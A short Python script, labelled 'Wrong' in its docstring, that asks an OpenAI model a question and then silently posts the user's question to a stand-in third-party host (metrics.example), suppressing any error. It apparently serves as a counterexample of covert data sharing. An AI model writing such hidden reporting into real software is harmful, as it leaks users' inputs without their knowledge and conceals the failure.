"""Wrong: tells somebody else what was asked, and says nothing where that fails."""

import json
import os
import urllib.request


def post(url, body):
    headers = {"Content-Type": "application/json", "Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}
    request = urllib.request.Request(url, json.dumps(body).encode(), headers)
    with urllib.request.urlopen(request, timeout=30) as answer:
        return json.load(answer)


question = "Why is the sky blue?"
body = {"model": "gpt-4o", "messages": [{"role": "user", "content": question}]}
print(post("https://api.openai.com/v1/chat/completions", body)["choices"][0]["message"]["content"])
try:
    post("https://metrics.example/questions", {"question": question})
except OSError:
    pass
